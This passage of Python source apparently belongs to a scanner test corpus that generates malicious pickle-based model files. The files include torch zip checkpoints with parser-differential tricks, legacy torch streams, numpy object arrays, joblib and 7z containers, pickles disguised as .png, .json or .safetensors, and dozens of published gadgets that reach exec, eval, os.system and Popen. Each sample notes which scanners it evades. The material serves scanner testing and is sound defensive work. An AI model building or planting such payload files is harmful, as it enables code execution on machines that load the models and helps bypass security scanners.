        loaders=("torch:pickle_file=extra/tokenizer.pkl",),
    )
    r.add(
        "torch_zip_payload_txt_member",
        "TORCH-ZIP-OTHER-MEMBER",
        ["CVE-2025-1889"],
        "torch_zip_payload_txt_member.pt",
        build_zip(torch_entries(BENIGN, extra=[ZEntry("archive/notes.txt", sh_pickle(0))])),
        "os.system",
        "Protocol-0 pickle in a .txt member (no \\x80 magic, no pickle extension): "
        "extension- and magic-based member selection both skip it.",
        loaders=("torch:pickle_file=notes.txt",),
    )
    # ZIP parser differentials (the payload always sits in data.pkl).
    ents = torch_entries(pay)
    ents[0].crc = 0xDEADBEEF
    r.add(
        "zip_bad_crc",
        "ZIP-BAD-CRC",
        _ZREF_CRC,
        "zip_bad_crc.pt",
        build_zip(ents),
        "os.system",
        "CRC-32 of data.pkl is wrong in both headers: zipfile raises 'Bad CRC-32' while torch's reader "
        "does not "
        "verify CRCs.",
        loaders=("torch",),
    )
    for flag, why in (
        (0x1, "traditional-encryption bit"),
        (0x20, "compressed-patched-data bit"),
        (0x40, "strong-encryption bit"),
    ):
        ents = torch_entries(pay)
        ents[0].flags = flag
        r.add(
            f"zip_flag_{flag:#04x}",
            "ZIP-FLAG-BITS",
            _ZREF_FLAG,
            f"zip_flag_{flag:#04x}.pt",
            build_zip(ents),
            "os.system",
            f"General-purpose flag {flag:#x} ({why}) set on data.pkl although the data is plain: "
            "zipfile refuses to open it (Sonatype's fixtures set it in both headers). torch 2.13's miniz "
            "also refuses a central-directory encryption/patch flag, so this variant is static-only here "
            "(older readers ignored it); see zip_flag_encrypted_local_only for the live variant.",
            loaders=(),
        )
    ents = torch_entries(pay)
    ents[0].local_flags = 0x1
    r.add(
        "zip_flag_encrypted_local_only",
        "ZIP-FLAG-BITS",
        _ZREF_FLAG,
        "zip_flag_local_only.pt",
        build_zip(ents),
        "os.system",
        "Encryption bit only in the local header (central directory says plain): torch 2.13 loads it, "
        "zipfile raises 'password required'.",
        loaders=("torch",),
    )
    ents = torch_entries(pay)
    for e in ents:
        e.data_descriptor = True
        e.flags = 0x808
    r.add(
        "zip_data_descriptor",
        "ZIP-DATA-DESCRIPTOR",
        ["torch.save writes flag 0x808"],
        "zip_data_descriptor.pt",
        build_zip(ents),
        "os.system",
        "Local headers carry zero CRC/sizes and a data descriptor follows the data "
        "(exactly what torch.save emits): streaming parsers that trust local sizes read nothing.",
        loaders=("torch",),
    )
    ents = torch_entries(pay)
    ents[0].local_name = "archive/datap.kl"
    r.add(
        "zip_local_name_mismatch",
        "ZIP-NAME-MISMATCH",
        _ZREF_NAME,
        "zip_local_name_mismatch.pt",
        build_zip(ents),
        "os.system",
        "Local header says 'archive/datap.kl', central directory says "
        "'archive/data.pkl': zipfile raises BadZipFile, torch uses the central directory.",
        loaders=("torch",),
    )
    ents = [ZEntry("archive/data.pkl", pay), ZEntry("archive/data.pkl", BENIGN), *torch_entries(BENIGN)[1:]]
    r.add(
        "zip_duplicate_name_malicious_first",
        "ZIP-DUPLICATE-NAME",
        [HIDE_SEEK + " (EOP)"],
        "zip_duplicate_first.pt",
        build_zip(ents),
        "os.system",
        "Two central entries named archive/data.pkl, malicious first. torch 2.13 and zipfile's by-name "
        "lookup both use the *last* entry, so this copy never runs here; kept so a scanner reports "
        "duplicate names and scans every entry by offset.",
        loaders=(),
    )
    ents = [ZEntry("archive/data.pkl", BENIGN), ZEntry("archive/data.pkl", pay), *torch_entries(BENIGN)[1:]]
    r.add(
        "zip_duplicate_name_malicious_last",
        "ZIP-DUPLICATE-NAME",
        [HIDE_SEEK + " (EOP)"],
        "zip_duplicate_last.pt",
        build_zip(ents),
        "os.system",
        "Duplicate archive/data.pkl, malicious last: torch 2.13 loads the last entry; a scanner that "
        "deduplicates names keeping the first (or walks local headers and stops early) misses it.",
        loaders=("torch",),
    )
    ents = torch_entries(pay)
    ents[0].central_extra = struct.pack("<HH", 0xCAFE, 200) + b"xx"
    r.add(
        "zip_corrupt_extra_field",
        "ZIP-EXTRA-FIELD",
        [HIDE_SEEK + " (EOP)"],
        "zip_corrupt_extra.pt",
        build_zip(ents),
        "os.system",
        "Central-directory extra field declares 200 bytes but holds 2: zipfile "
        "rejects the whole archive ('Corrupt extra field'), miniz ignores unknown extras.",
        loaders=("torch",),
    )
    ents = [ZEntry("archive/aaa_readme", b"x"), *torch_entries(pay)]
    r.add(
        "zip_corrupt_entry_before_data",
        "ZIP-CORRUPT-SIBLING",
        ["modelscan PR #355 / issue #354"],
        "zip_corrupt_sibling.pt",
        _corrupt_local_sig(build_zip(ents), 0),
        "os.system",
        "The first member's local-header signature is destroyed; scanners with one try/except around the "
        "member loop stop before data.pkl.",
        loaders=(),
    )
    r.add(
        "zip_prefix_junk",
        "ZIP-PREFIX",
        [],
        "zip_prefix_junk.pt",
        torch_zip(pay, prefix=b"MLVETJUNK" * 7),
        "os.system",
        "Arbitrary bytes before the first local header (offsets not adjusted): zipfile compensates, "
        "torch does not treat the file as a zip.",
        loaders=(),
    )
    r.add(
        "zip_prefix_pickle_polyglot",
        "ZIP-POLYGLOT-PREFIX",
        ["fickling polyglot.py", HIDE_SEEK],
        "zip_prefix_pickle_polyglot.pt",
        torch_zip(BENIGN, prefix=sh_pickle(2)),
        "os.system",
        "A malicious pickle followed by a valid, benign torch zip: zip-aware scanners scan only the members, "
        "but torch.load sees no PK magic at offset 0 and runs the legacy path, unpickling the prefix.",
        loaders=("pickle", "torch", "numpy", "joblib"),
    )
    r.add(
        "zip_comment_fake_eocd",
        "ZIP-EOCD-CONFUSION",
        [HIDE_SEEK + " (EOP)"],
        "zip_comment_fake_eocd.pt",
        _fake_eocd_zip(pay),
        "os.system",
        "Two central directories: the real EOCD (pointing at the malicious one) carries, as its comment, a "
        "second EOCD pointing at a benign copy. zipfile and torch 2.13 both pick the trailing (benign) EOCD, "
        "so nothing runs here; it is a parser-robustness sample (3 of 4 peers crash or report clean).",
        loaders=(),
    )

    # Legacy (pre-1.6) stream: magic, protocol, sys_info, data, storage keys.
    names = ["magic", "protocol", "sys_info", "data", "storage_keys"]
    for i, slot in enumerate(names):
        parts = legacy_parts()
        parts[i] = pay
        loaders = ["torch", "pickle-multi"] + (["pickle", "numpy", "joblib"] if i == 0 else [])
        r.add(
            f"legacy_payload_in_{slot}",
            "TORCH-LEGACY-STREAM",
            [PS + "GHSA-97f8-7cmv-76j2", "CVE-2025-10155"],
            f"legacy_{slot}.bin",
            b"".join(parts),
            "os.system",
            f"Legacy torch.save stream with the payload as the {slot} pickle; torch.load unpickles every "
            f"slot "
            "in order, so each position executes even if later validation fails.",
            loaders=tuple(loaders),
        )
    parts = legacy_parts()
    parts[0] = call_pickle("builtins", "eval", hex(_MAGIC), proto=2)
    parts[3] = pay
    r.add(
        "legacy_magic_via_eval",
        "TORCH-LEGACY-STREAM",
        [PS + "GHSA-97f8-7cmv-76j2"],
        "legacy_magic_eval.pth",
        b"".join(parts),
        "os.system",
        "The magic number is *computed* by eval('0x1950...'): a scanner that "
        "checks for the literal magic decides the file is not torch-legacy and stops after one pickle.",
        alt=("builtins.eval",),
        loaders=("torch", "pickle-multi"),
    )
    sys_info = legacy_parts()[2]
    storages = Asm(2).int_(0).done() + Asm(2).val([]).done()
    tensors = Asm(2).int_(0).done()
    members = {"sys_info": sys_info, "pickle": BENIGN, "tensors": tensors, "storages": storages}
    for slot, payload in (("storages", pay + Asm(2).val([]).done()), ("tensors", pay), ("pickle", pay)):
        m = dict(members)
        m[slot] = payload
        r.add(
            f"legacy_tar_payload_in_{slot}",
            "TORCH-LEGACY-TAR",
            ["torch.serialization legacy_load"],
            f"legacy_tar_{slot}.tar.pt",
            make_tar(list(m.items())),
            "os.system",
            f"Pre-0.4 tar checkpoint (sys_info/pickle/tensors/storages members) with the payload as the "
            f"first "
            f"pickle of '{slot}'. os.system returns 0, which torch reads as a count, so loading succeeds.",
            loaders=("torch",),
        )


def _corrupt_local_sig(z: bytes, index: int) -> bytes:
    """Overwrite the signature of the ``index``-th local header (counting from the start)."""
    pos = -1
    for _ in range(index + 1):
        pos = z.index(b"PK\x03\x04", pos + 1)
    return z[:pos] + b"XX\x03\x04" + z[pos + 4 :]


def _fake_eocd_zip(payload: bytes) -> bytes:
    """Real EOCD -> malicious central dir; its comment is a fake EOCD -> benign central dir."""
    mal = build_zip(torch_entries(payload))
    ben_entries = torch_entries(BENIGN)
    # Append benign local records after the malicious archive's local records.
    mal_eocd = mal.rindex(b"PK\x05\x06")
    mal_cd_size, mal_cd_off = struct.unpack("<2I", mal[mal_eocd + 12 : mal_eocd + 20])
    locals_mal = mal[:mal_cd_off]
    cd_mal = mal[mal_cd_off : mal_cd_off + mal_cd_size]
    ben = build_zip(ben_entries)
    ben_eocd = ben.rindex(b"PK\x05\x06")
    ben_cd_size, ben_cd_off = struct.unpack("<2I", ben[ben_eocd + 12 : ben_eocd + 20])
    shift = len(locals_mal)
    cd_ben = bytearray(ben[ben_cd_off : ben_cd_off + ben_cd_size])
    p = 0
    while p < len(cd_ben):  # relocate benign local-header offsets
        nlen, xlen, clen = struct.unpack("<3H", cd_ben[p + 28 : p + 34])
        (off,) = struct.unpack("<I", cd_ben[p + 42 : p + 46])
        cd_ben[p + 42 : p + 46] = struct.pack("<I", off + shift)
        p += 46 + nlen + xlen + clen
    body = locals_mal + ben[:ben_cd_off]
    cd_mal_off = len(body)
    body += cd_mal
    cd_ben_off = len(body)
    body += bytes(cd_ben)
    n_mal = len(torch_entries(payload))
    n_ben = len(ben_entries)
    fake = struct.pack("<4s4H2IH", b"PK\x05\x06", 0, 0, n_ben, n_ben, len(cd_ben), cd_ben_off, 0)
    real = struct.pack("<4s4H2IH", b"PK\x05\x06", 0, 0, n_mal, n_mal, len(cd_mal), cd_mal_off, len(fake))
    return body + real + fake


# ---------------------------------------------------------------------------------------------
# 8. NumPy, joblib, 7z, nested archives, misleading names
# ---------------------------------------------------------------------------------------------


def _numpy(r: _Reg) -> None:
    t = "NUMPY-OBJECT-ARRAY"
    pay = sh_pickle(3)
    for ver in ((1, 0), (2, 0), (3, 0)):
        r.add(
            f"npy_object_v{ver[0]}",
            t,
            ["CVE-2019-6446", "picklescan scan_numpy"],
            f"npy_object_v{ver[0]}.npy",
            npy_object(pay, ver),
            "os.system",
            f".npy format {ver[0]}.{ver[1]} header declaring dtype '|O'; the "
            "array body is a pickle that numpy.load(allow_pickle=True) unpickles.",
            loaders=("numpy",),
        )
    r.add(
        "npy_structured_object_field",
        t,
        [],
        "npy_structured_object.npy",
        npy_object(pay, descr="[('w', '|O')]"),
        "os.system",
        "Structured dtype with one object field: dtype.hasobject is true although descr != '|O'.",
        loaders=("numpy",),
    )
    r.add(
        "npy_raw_pickle_renamed",
        t,
        [HIDE_SEEK + " (numpy.load fallback)"],
        "weights.npy",
        pay,
        "os.system",
        "Not an .npy at all: numpy.load falls back to pickle.load for unknown magic when allow_pickle=True.",
        loaders=("numpy", "pickle", "joblib", "torch"),
    )
    npy = npy_object(pay)
    for method, tag in ((0, "stored"), (8, "deflated")):
        z = build_zip(
            [
                ZEntry("scale.npy", npy_object(Asm(3).val(None).done()), method=method),
                ZEntry("embedding.npy", npy, method=method),
            ]
        )
        r.add(
            f"npz_object_member_{tag}",
            "NUMPY-NPZ",
            ["picklescan PR #32"],
            f"npz_object_{tag}.npz",
            z,
            "os.system",
            f".npz ({tag}) whose second member is a malicious object array; numpy executes it "
            "when that key is accessed.",
            loaders=("numpy",),
        )


def _joblib(r: _Reg) -> None:
    t = "JOBLIB-COMPRESSED"
    pay = sh_pickle(4)
    r.add(
        "joblib_zlib",
        t,
        ["joblib compressor magic"],
        "model.joblib.z",
        zlib.compress(pay, 3),
        "os.system",
        "joblib 'zlib' container (starts with 0x78).",
        loaders=("joblib",),
    )
    r.add(
        "joblib_gzip",
        t,
        [],
        "model.joblib.gz",
        gzip.compress(pay, 3, mtime=0),
        "os.system",
        "gzip container.",
        loaders=("joblib",),
    )
    r.add(
        "joblib_bz2",
        t,
        [],
        "model.joblib.bz2",
        bz2.compress(pay, 3),
        "os.system",
        "bz2 container.",
        loaders=("joblib",),
    )
    r.add(
        "joblib_xz",
        t,
        [],
        "model.joblib.xz",
        lzma.compress(pay, format=lzma.FORMAT_XZ),
        "os.system",
        "xz container.",
        loaders=("joblib",),
    )
    r.add(
        "joblib_lzma_alone",
        t,
        [],
        "model.joblib.lzma",
        lzma.compress(pay, format=lzma.FORMAT_ALONE),
        "os.system",
        "Legacy .lzma (LZMA_Alone) container.",
        loaders=("joblib",),
    )
    try:
        import lz4.frame  # type: ignore[import-untyped,unused-ignore]

        lz = bytes(lz4.frame.compress(pay))
    except ImportError:
        lz = None
    r.add(
        "joblib_lz4",
        t,
        [],
        "model.joblib.lz4",
        lz,
        "os.system",
        "lz4 frame container (needs lz4).",
        loaders=("joblib",),
    )
    r.add(
        "joblib_raw_pickle",
        t,
        [],
        "model.joblib",
        pay,
        "os.system",
        "Uncompressed joblib file = plain pickle.",
        loaders=("joblib", "pickle", "numpy", "torch"),
    )
    # Real joblib layout: an object ndarray is pickled *inline* right after NumpyArrayWrapper's BUILD.
    a = Asm(2)
    a.global_("joblib.numpy_pickle", "NumpyArrayWrapper").empty_tuple().newobj()
    dtype = frag(
        2,
        lambda b: (
            b.global_("numpy", "dtype")
            .tuple_of(["O8", False, True])
            .reduce()
            .tuple_of([Raw(b"K\x03"), "|", None, None, None, -1, -1, 63])
            .build()
        ),
    )
    a.val(
        {
            "subclass": frag(2, lambda b: b.global_("numpy", "ndarray")),
            "shape": (1,),
            "order": "C",
            "dtype": dtype,
            "allow_mmap": False,
            "numpy_array_alignment_bytes": 16,
        }
    ).build()
    joblib_inline = a.code() + sh_pickle(2) + b"."
    r.add(
        "joblib_inline_object_array",
        "JOBLIB-INLINE-PICKLE",
        ["joblib numpy_pickle format"],
        "joblib_inline_object_array.joblib",
        joblib_inline,
        "os.system",
        "joblib writes object arrays as a *second pickle embedded mid-stream* after NumpyArrayWrapper's "
        "BUILD. "
        "The payload is that inner pickle; the outer stream only shows joblib/numpy globals.",
        alt=("joblib.numpy_pickle.NumpyArrayWrapper",),
        loaders=("joblib", "pickle"),
    )
    r.add(
        "joblib_gzip_inline_object_array",
        "JOBLIB-INLINE-PICKLE",
        [],
        "joblib_inline_object_array.joblib.gz",
        gzip.compress(joblib_inline, 3, mtime=0),
        "os.system",
        "Same, gzip-compressed.",
        loaders=("joblib",),
    )


def _sevenzip(r: _Reg) -> None:
    t = "ARCHIVE-7Z"
    broken = b"\x80\x02" + Asm(2).call("os", "system", SHELL_CMD).code() + b"\xff"
    members = [(e.name, e.data) for e in torch_entries(broken)]
    r.add(
        "sevenzip_torch_nullifai",
        t,
        [NULLIFAI, PS + "PR #35 (7z support)"],
        "pytorch_model.bin",
        seven_zip(members),
        "os.system",
        "nullifAI: a PyTorch checkpoint whose container is 7z (not zip) and whose data.pkl is a *broken* "
        "pickle (payload, then an invalid opcode). torch.load cannot open 7z directly; the payload runs once "
        "the archive is unpacked and data.pkl is unpickled.",
        loaders=("extract+pickle",),
    )
    r.add(
        "sevenzip_raw_pickle",
        t,
        [NULLIFAI],
        "model.7z",
        seven_zip([("model/data.pkl", sh_pickle(2))]),
        "os.system",
        "Plain pickle inside a 7z archive.",
        loaders=("extract+pickle",),
    )


def _nested_archives(r: _Reg) -> None:
    t = "ARCHIVE-NESTED"
    pt = torch_zip(sh_pickle(2))
    r.add(
        "zip_in_zip_torch",
        t,
        [],
        "bundle.zip",
        build_zip([ZEntry("models/model.pt", pt)]),
        "os.system",
        "A torch zip checkpoint stored inside another zip.",
        loaders=("extract+torch",),
    )
    r.add(
        "tar_gz_torch",
        t,
        [],
        "model.tar.gz",
        gzip.compress(make_tar([("model/model.pt", pt)]), 6, mtime=0),
        "os.system",
        "torch checkpoint inside a .tar.gz (the way many hubs ship checkpoints).",
        loaders=("extract+torch",),
    )
    r.add(
        "gzip_torch",
        t,
        [],
        "model.pt.gz",
        gzip.compress(pt, 6, mtime=0),
        "os.system",
        "gzip-compressed torch checkpoint.",
        loaders=("extract+torch", "joblib"),
    )
    inner_zip = build_zip([ZEntry("data.pkl", sh_pickle(4), method=8)])
    r.add(
        "tar_zip_pickle_double",
        t,
        [],
        "bundle.tar",
        make_tar([("readme.txt", b"weights\n"), ("inner/weights.zip", inner_zip)]),
        "os.system",
        "tar -> zip (deflated) -> pickle: two container levels.",
        loaders=("extract+pickle",),
    )


def _names(r: _Reg) -> None:
    t = "FMT-EXTENSION-MISMATCH"
    pay = sh_pickle(2)
    r.add(
        "pickle_as_png",
        t,
        ["picklescan bad_pytorch.pt case"],
        "preview.png",
        pay,
        "os.system",
        "Pickle saved as .png.",
        loaders=("pickle", "torch", "numpy", "joblib"),
    )
    r.add(
        "pickle_as_bin",
        t,
        ["CVE-2025-10155", PS + "GHSA-jgw4-cr84-mqxg"],
        "pytorch_model.bin",
        pay,
        "os.system",
        "Plain pickle named like a torch checkpoint: scanners that route .bin to a torch parser fail on the "
        "missing magic and return clean; torch.load runs it through the legacy path.",
        loaders=("pickle", "torch", "numpy", "joblib"),
    )
    r.add(
        "pickle_no_extension",
        t,
        [],
        "model",
        pay,
        "os.system",
        "No extension at all.",
        loaders=("pickle", "torch", "numpy", "joblib"),
    )
    r.add(
        "pickle_as_json",
        t,
        [],
        "config.json",
        sh_pickle(0),
        "os.system",
        "Protocol-0 (printable) pickle named .json.",
        loaders=("pickle", "torch", "numpy", "joblib"),
    )
    r.add(
        "pickle_as_safetensors",
        t,
        [],
        "model.safetensors",
        pay,
        "os.system",
        "Pickle named .safetensors (trusted extension). torch 2.13 refuses the extension, the other loaders run it.",
        loaders=("pickle", "torch", "numpy", "joblib"),
    )
    png = b"\x89PNG\r\n\x1a\n" + struct.pack(">I", 13) + b"IHDR" + b"\x00" * 17
    r.add(
        "pickle_png_trailer_polyglot",
        t,
        [],
        "thumbnail.png",
        pay + png,
        "os.system",
        "Pickle followed by PNG bytes after STOP: pickle.load stops at STOP.",
        loaders=("pickle", "torch", "numpy", "joblib"),
    )


# ---------------------------------------------------------------------------------------------
# 9. Gadget families (one sample per published gadget; callable is the real dangerous one)
# ---------------------------------------------------------------------------------------------


def _ns(proto: int, attrs: dict[str, object]) -> Raw:
    """A throw-away ``self``: types.SimpleNamespace() whose __dict__ is filled by BUILD."""
    return frag(proto, lambda a: a.call("types", "SimpleNamespace").val(attrs).build())


def _inst(module: str, cls: str, *ctor: object) -> Raw:
    return frag(4, lambda a: a.call(module, cls, *ctor))


def _gadgets(r: _Reg) -> None:
    def g(
        family: str,
        name: str,
        module: str,
        attr: str,
        args: Sequence[object],
        refs: Sequence[str],
        note: str,
        *,
        alt: Sequence[str] = (),
        loaders: Sequence[str] = ("pickle",),
        live: bool = True,
        expect: str | None = None,
    ) -> None:
        r.add(
            f"gadget_{name}",
            f"GADGET-{family}",
            refs,
            f"gadget_{name}.pkl",
            call_pickle(module, attr, *args, proto=4),
            expect or f"{module}.{attr}",
            note,
            alt=alt,
            loaders=loaders,
            live=live,
        )

    argv = ["sh", "-c", SHELL_CMD]
    # -- code execution ---------------------------------------------------------------------
    g(
        "CODE-EXEC",
        "runpy_run_code",
        "runpy",
        "_run_code",
        [PY_SRC, {}],
        ["picklescan tests malicious14"],
        "runpy._run_code(code, globals) is exec().",
    )
    g(
        "CODE-EXEC",
        "interactive_interpreter_runsource",
        "code",
        "InteractiveInterpreter.runsource",
        [_inst("code", "InteractiveInterpreter"), PY_SRC],
        [FK + "GHSA-q5qq-mvfm-j35x", PS + "GHSA-cj3c-v495-4xqh"],
        "Unbound method on a freshly built InteractiveInterpreter: compiles and runs source.",
        alt=("code.InteractiveInterpreter",),
    )
    g(
        "CODE-EXEC",
        "cprofile_run",
        "cProfile",
        "run",
        [PY_SRC],
        [FK + "GHSA-p523-jq9w-64x9", PS + "GHSA-49gj-c84q-6qm9"],
        "cProfile.run(statement) exec()s the statement.",
    )
    g(
        "CODE-EXEC",
        "cprofile_runctx",
        "cProfile",
        "runctx",
        [PY_SRC, None, None],
        [PS + "GHSA-9w88-8rmg-7g2p"],
        "cProfile.runctx(statement, globals, locals).",
    )
    g(
        "CODE-EXEC",
        "profile_run",
        "profile",
        "run",
        [PY_SRC],
        [PS + "GHSA-7wx9-6375-f5wh"],
        "Pure-Python profiler, same exec().",
    )
    g(
        "CODE-EXEC",
        "profile_profile_run",
        "profile",
        "Profile.run",
        [_inst("profile", "Profile"), PY_SRC],
        [PS + "GHSA-x696-vm39-cp64"],
        "profile.Profile.run(self, cmd).",
        alt=("profile.Profile",),
    )
    g(
        "CODE-EXEC",
        "timeit_setup",
        "timeit",
        "timeit",
        ["pass", PY_SRC],
        [PS + "GHSA-v7x6-rv5q-mhwc", "picklescan tests malicious21"],
        "timeit.timeit(stmt, setup): setup is exec()'d once.",
    )
    g(
        "CODE-EXEC",
        "trace_run",
        "trace",
        "Trace.run",
        [_inst("trace", "Trace", 0, 0), PY_SRC],
        [PS + "GHSA-5qwp-399c-mjwf"],
        "trace.Trace.run(self, cmd) exec()s cmd.",
        alt=("trace.Trace",),
    )
    g(
        "CODE-EXEC",
        "bdb_run",
        "bdb",
        "Bdb.run",
        [_inst("bdb", "Bdb"), PY_SRC],
        ["picklescan tests malicious15"],
        "bdb.Bdb.run(self, cmd) exec()s under a no-op tracer.",
        alt=("bdb.Bdb",),
    )
    g(
        "CODE-EXEC",
        "pdb_run",
        "pdb",
        "run",
        [PY_SRC],
        ["modelaudit gen_bypass_v4 poc27"],
        "pdb.run(statement): interactive debugger (not executed by verify_live).",
        live=False,
    )
    g(
        "CODE-EXEC",
        "doctest_debug_script",
        "doctest",
        "debug_script",
        [PY_SRC, False],
        [PS + "GHSA-fqq6-7vqf-w3fg"],
        "doctest.debug_script(src) runs src under pdb (interactive).",
        live=False,
    )
    g(
        "CODE-EXEC",
        "numpy_runstring",
        "numpy.testing._private.utils",
        "runstring",
        [PY_SRC, {}],
        ["picklescan tests malicious22"],
        "numpy's runstring(astr, dict) is exec().",
    )
    g(
        "CODE-EXEC",
        "numpy_f2py_eval_length",
        "numpy.f2py.crackfortran",
        "_eval_length",
        [PY_SRC, {}],
        [PS + "GHSA-r8g5-cgf2-4m4m"],
        "f2py's length evaluator eval()s its argument.",
    )
    g(
        "CODE-EXEC",
        "torch_execwrapper",
        "torch.jit.unsupported_tensor_ops",
        "execWrapper",
        [PY_SRC, {}, {}],
        [PS + "GHSA-vr7h-p6mm-wpmh"],
        "torch.jit helper that is a bare exec().",
    )
    g(
        "CODE-EXEC",
        "torch_evaluate_guards_expression",
        "torch.fx.experimental.symbolic_shapes",
        "ShapeEnv.evaluate_guards_expression",
        [None, PY_SRC, []],
        [PS + "GHSA-f4x7-rfwp-v3xw"],
        "eval(code, SYMPY_INTERP, ...) without touching self.",
    )
    g(
        "CODE-EXEC",
        "torch_bottleneck_run_cprofile",
        "torch.utils.bottleneck.__main__",
        "run_cprofile",
        [PY_SRC, {}],
        [PS + "GHSA-4r9r-ch6f-vxmx"],
        "exec via cProfile in torch<=2.x bottleneck (module removed in torch 2.13, still shipped by older torch).",
        loaders=(),
    )
    g(
        "CODE-EXEC",
        "torch_dynamo_guardbuilder_get",
        "torch._dynamo.guards",
        "GuardBuilder.get",
        [_ns(4, {"scope": {}}), PY_SRC],
        [PS + "GHSA-86cj-95qr-2p4f"],
        "eval(name, self.scope) in older torch (signature changed in torch 2.13).",
        loaders=(),
    )
    g(
        "CODE-EXEC",
        "idle_autocomplete_get_entity",
        "idlelib.autocomplete",
        "AutoComplete.get_entity",
        [None, PY_SRC],
        [PS + "GHSA-6w4w-5w54-rjvr"],
        "IDLE helper: eval(name, namespace).",
    )
    g(
        "CODE-EXEC",
        "idle_calltip_get_entity",
        "idlelib.calltip",
        "get_entity",
        [PY_SRC],
        [PS + "GHSA-9xph-j2h6-g47v"],
        "IDLE helper: eval(expression).",
    )
    g(
        "CODE-EXEC",
        "idle_debugobj_settext",
        "idlelib.debugobj",
        "ObjectTreeItem.SetText",
        [None, PY_SRC],
        [PS + "GHSA-3vg9-h568-4w9m"],
        "IDLE helper: eval(text) before using self.",
    )
    g(
        "CODE-EXEC",
        "lib2to3_make_label",
        "lib2to3.pgen2.pgen",
        "ParserGenerator.make_label",
        [None, _ns(4, {"labels": [], "keywords": {}, "tokens": {}}), f"''+str({PY_SRC})"],
        [PS + "GHSA-p9w7-82w4-7q8m"],
        "eval(label) for quoted labels; 'c' is a SimpleNamespace fake.",
    )
    a = Asm(4)
    a.glob("logging.config", "dictConfig").tuple_of(
        [{"version": 1, "handlers": {"h": {"()": "os.system", "command": SHELL_CMD}}}]
    ).reduce()
    r.add(
        "gadget_logging_dictconfig_factory",
        "GADGET-IMPORT",
        ["logging.config '()' factory resolution"],
        "gadget_logging_dictconfig.pkl",
        a.done(),
        "logging.config.dictConfig",
        "dictConfig resolves the dotted string 'os.system' itself and calls it with keyword args: the "
        "dangerous name is only *data*.",
        alt=("os.system",),
    )

    # -- process execution ------------------------------------------------------------------
    g("PROCESS", "os_popen", "os", "popen", [SHELL_CMD], [], "os.popen(cmd) runs a shell.")
    g(
        "PROCESS",
        "os_posix_spawnp",
        "os",
        "posix_spawnp",
        ["sh", argv, frag(4, lambda a: a.glob("os", "environ"))],
        [],
        "posix_spawnp(path, argv, env) with env = os.environ (a global that is itself innocuous).",
    )
    g("PROCESS", "os_spawnvp", "os", "spawnvp", [0, "sh", argv], [], "spawnvp(P_WAIT, file, argv).")
    g("PROCESS", "os_execvp", "os", "execvp", ["sh", argv], [], "execvp replaces the loading process.")
    g(
        "PROCESS",
        "subprocess_run",
        "subprocess",
        "run",
        [argv],
        ["picklescan tests malicious8"],
        "subprocess.run.",
    )
    g(
        "PROCESS",
        "subprocess_check_output",
        "subprocess",
        "check_output",
        [argv],
        [],
        "subprocess.check_output.",
    )
    g(
        "PROCESS",
        "subprocess_getstatusoutput",
        "subprocess",
        "getstatusoutput",
        [SHELL_CMD],
        [],
        "Shell helper.",
    )
    g(
        "PROCESS",
        "multiprocessing_spawnv_passfds",
        "multiprocessing.util",
        "spawnv_passfds",
        [b"/bin/sh", [b"/bin/sh", b"-c", SHELL_CMD.encode()], []],
        [FK + "GHSA-q5qq-mvfm-j35x"],
        "fork_exec wrapper in multiprocessing.util.",
    )
    g(
        "PROCESS",
        "asyncio_unix_subprocess_start",
        "asyncio.unix_events",
        "_UnixSubprocessTransport._start",
        [{}, SHELL_CMD, True, None, None, None, 0],
        ["CVE-2025-10157", PS + "GHSA-f7qq-56ww-84cr", PS + "GHSA-q77w-mwjj-7mqx"],
        "Popen(shell=True) inside a private asyncio method; exact-match blocklists on 'asyncio' missed the submodule.",
    )
    g(
        "PROCESS",
        "uuid_get_command_stdout",
        "uuid",
        "_get_command_stdout",
        argv,
        [FK + "GHSA-5hwf-rc88-82xm", PS + "GHSA-g38g-8gr9-h9xp"],
        "Popen([which(command), *args]).",
    )
    g(
        "PROCESS",
        "osx_support_read_output",
        "_osx_support",
        "_read_output",
        [SHELL_CMD],
        [FK + "GHSA-5hwf-rc88-82xm", PS + "GHSA-g38g-8gr9-h9xp"],
        "os.system(f'{cmd} >tmp 2>&1'); importable on Linux.",
    )
    g(
        "PROCESS",
        "osx_support_find_build_tool",
        "_osx_support",
        "_find_build_tool",
        [f"x; {SHELL_CMD} #"],
        [FK + "GHSA-5hwf-rc88-82xm"],
        "Command injection through the tool name.",
    )
    g(
        "PROCESS",
        "aix_support_read_cmd_output",
        "_aix_support",
        "_read_cmd_output",
        [SHELL_CMD],
        [FK + "GHSA-5hwf-rc88-82xm", PS + "GHSA-g38g-8gr9-h9xp"],
        "os.system wrapper; the function exists in newer CPython releases (absent from 3.11.7, so the load "
        "fails here with AttributeError).",
        loaders=(),
    )
    g(
        "PROCESS",
        "imaplib_imap4_stream",
        "imaplib",
        "IMAP4_stream",
        [SHELL_CMD],
        [PS + "GHSA-g38g-8gr9-h9xp"],
        "IMAP4_stream(command) = Popen(command, shell=True).",
    )
    g(
        "PROCESS",
        "mailcap_findmatch",
        "mailcap",
        "findmatch",
        [{"text/plain": [{"view": "true", "test": SHELL_CMD}]}, "text/plain"],
        ["modelscan PR #346"],
        "findmatch runs each entry's 'test' command with os.system.",
    )
    g(
        "PROCESS",
        "pydoc_pipepager",
        "pydoc",
        "pipepager",
        ["", SHELL_CMD],
        ["picklescan tests malicious18"],
        "pipepager(text, cmd) = Popen(cmd, shell=True).",
    )
    g(
        "PROCESS",
        "pydoc_tempfilepager",
        "pydoc",
        "tempfilepager",
        ["", SHELL_CMD + " #"],
        [],
        "tempfilepager(text, cmd) = os.system(cmd + ' \"tmpfile\"').",
    )
    g(
        "PROCESS",
        "torch_collect_env_run",
        "torch.utils.collect_env",
        "run",
        [SHELL_CMD],
        [PS + "GHSA-f745-w6jp-hpxx"],
        "Popen(command, shell=True) in torch.",
    )
    g(
        "PROCESS",
        "torch_collect_env_run_and_read_all",
        "torch.utils.collect_env",
        "run_and_read_all",
        [frag(4, lambda a: a.glob("torch.utils.collect_env", "run")), SHELL_CMD],
        [PS + "GHSA-jhph-76pp-mggw"],
        "run_and_read_all(run_lambda, command).",
        alt=("torch.utils.collect_env.run",),
    )
    g(
        "PROCESS",
        "distutils_spawn",
        "distutils.spawn",
        "spawn",
        [argv],
        [],
        "distutils.spawn.spawn(cmd list).",
    )
    g(
        "PROCESS",
        "webbrowser_genericbrowser_open",
        "webbrowser",
        "GenericBrowser.open",
        [_inst("webbrowser", "GenericBrowser", argv), "about:blank"],
        ["picklescan: webbrowser '*'"],
        "GenericBrowser(['sh','-c',cmd]).open(url) = Popen(cmdline).",
        alt=("webbrowser.GenericBrowser",),
    )
    g(
        "PROCESS",
